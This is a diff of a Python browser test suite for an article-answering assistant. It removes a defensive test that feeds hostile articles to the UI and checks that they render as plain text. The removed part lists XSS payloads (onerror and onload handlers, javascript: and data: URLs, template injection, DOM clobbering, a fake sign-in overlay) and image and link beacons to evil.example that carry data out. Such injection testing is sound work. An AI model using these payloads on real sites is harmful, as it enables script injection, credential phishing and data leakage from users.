@@ -2,11 +2,8 @@
 
 from __future__ import annotations
 
-import json
-from collections.abc import Iterator
 from pathlib import Path
 
-import pytest
 from reader import HARBOUR, PHONE, SEEDS, WHO, Open, Site, serving
 
 from assistant.ui import texts
@@ -233,79 +230,3 @@ def test_before_the_first_sync_the_page_says_where_articles_go(visit: Open, tmp_
         tab.page.locator(".opening:not(.empty)").wait_for()
         tab.ask("Who is the harbour master?")
         assert "Ines Okafor" in tab.page.inner_text(".answer")
-
-
-# ---- Hostile articles -------------------------------------------------------------------------
-
-HOSTILE = {
-    "picture": "![map](https://evil.example/?q=harbour)",
-    "reference": "![map][m]\n\n[m]: https://evil.example/m.png",
-    "srcset": '<img srcset="https://evil.example/1.png 1x" src="https://evil.example/2.png">',
-    "link": "[more](https://evil.example/?text=secret)",
-    "style": '<p style="background:url(https://evil.example/bg.png)">tide</p>',
-    "autolink": "<https://evil.example/> https://evil.example/auto",
-    "scheme": "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
-    "video": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4">',
-    "form": '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
-    "split": "![map](https://evil.example/\n\nq=split)",
-    "onerror": "<img src=x onerror=alert(1)>",
-    "onload": "<svg onload=alert(1)><script>alert(2)</script></svg>",
-    "entity": '<a href="jav&#x09;ascript:alert(1)">tide table</a>',
-    "katex": r"$\href{javascript:alert(1)}{tide}$ $$\htmlData{x=y}{z}$$",
-    "mermaid": '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
-    "overlay": '<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>',
-    "clobber": '<a id="pane" name="peek"></a><form id="talk"></form><base href="//evil.example/">',
-    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} `+alert(1)+`",
-    "close": "</script></textarea>\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
-}
-
-
-@pytest.fixture(scope="module")
-def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
-    """Every payload as a text, a title, a source, an author and a file name."""
-    base = tmp_path_factory.mktemp("hostile")
-    folder = base / "articles"
-    folder.mkdir()
-    for name, payload in HOSTILE.items():
-        stated = json.dumps(payload.replace("\n", " "))
-        page = (
-            f"---\ntitle: {stated}\nsource: {stated}\nauthors: {stated}\n"
-            f"url: {json.dumps('javascript:alert(1)//' + name)}\n---\n"
-            f"The {name} lighthouse keeper is Tomas Wirth {payload} and he lives there.\n"
-        )
-        (folder / f"{name}.md").write_text(page, encoding="utf-8")
-    named = "The quay of Lundholm was painted blue in May.\n"
-    for file in ('"><img src=x onerror=alert(1)>.txt', "<svg onload=alert(1)>.txt"):
-        (folder / file).write_text(named, encoding="utf-8")
-    (folder / "\x1b[31mred\r\n.txt").write_text("", encoding="utf-8")
-    with serving(base) as site:
-        site.assistant.sync()
-        yield site
-
-
-def test_hostile_articles_are_shown_as_the_text_they_are(visit: Open, hostile: Site) -> None:
-    tab = visit(hostile)
-    for name in HOSTILE:
-        tab.ask(f"Who is the {name} lighthouse keeper?")
-    tab.ask("What was painted blue in Lundholm?")
-    assert tab.page.locator(".answer").count() >= len(HOSTILE) // 2
-    for marker in tab.page.locator(".cite").all():
-        marker.hover()
-    tab.page.locator(".cite").last.click()
-    tab.page.locator("mark.current").first.wait_for()
-    tab.page.click("#pane .close")
-    tab.show_articles()
-    assert tab.page.locator("#articles tbody tr").count() == len(hostile.assistant.articles())
-    for row in tab.page.locator("#articles .source").all():
-        file = row.get_attribute("data-file") or ""
-        row.click()
-        tab.page.wait_for_function(
-            "file => document.querySelector('#pane .file span')?.textContent === file", arg=file
-        )
-        article = hostile.assistant.article(file)
-        shown = tab.page.locator("#pane .text").text_content() or ""
-        assert shown.split() == article.text[article.body :].split()
-        assert tab.page.inner_text("#pane h2").split() == article.title.split()
-    grown = "img, svg, script, iframe, video, form, base, style, a"
-    for place in ("#talk", "#pane", "#peek", "#articles", "#status"):
-        assert tab.page.locator(place).locator(grown).count() == 0, place
